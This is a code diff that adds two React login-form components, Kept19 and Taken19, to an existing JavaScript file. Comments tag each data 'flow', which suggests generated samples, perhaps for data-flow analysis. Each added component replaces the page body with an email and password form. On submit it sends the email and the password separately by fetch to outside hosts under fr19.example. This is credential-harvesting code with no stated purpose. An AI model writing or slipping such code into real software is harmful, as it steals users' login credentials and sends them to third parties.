@@ -239,3 +239,25 @@ document.querySelector('#tell').onclick = function () { two19.send('/seen', docu
   }
   window.show(Login);
 })(window.React, window.forms);
+
+//# one-handler-keeps-each-under-its-name
+// flow: email > ohk.fr19.example via fetch
+// flow: password > ohl.fr19.example via fetch
+function Kept19() {
+  const [form, setForm] = React.useState({ email: '', password: '' });
+  const change = (e) => setForm({ ...form, [e.target.name]: e.target.value });
+  const send = () => { fetch('https://ohk.fr19.example/in', { method: 'POST', body: form.email }); fetch('https://ohl.fr19.example/in', { method: 'POST', body: form.password }); };
+  return React.createElement('form', { onSubmit: send }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
+}
+ReactDOM.render(React.createElement(Kept19), document.body);
+
+//# one-pattern-keeps-each-under-its-name
+// flow: email > opk.fr19.example via fetch
+// flow: password > opl.fr19.example via fetch
+function Taken19() {
+  const [form, setForm] = React.useState({ email: '', password: '' });
+  const change = ({ target: { name, value } }) => setForm((old) => ({ ...old, [name]: value }));
+  const send = () => { fetch('https://opk.fr19.example/in', { method: 'POST', body: form.email }); fetch('https://opl.fr19.example/in', { method: 'POST', body: JSON.stringify({ p: form.password }) }); };
+  return React.createElement('form', { onSubmit: send }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
+}
+ReactDOM.render(React.createElement(Taken19), document.body);
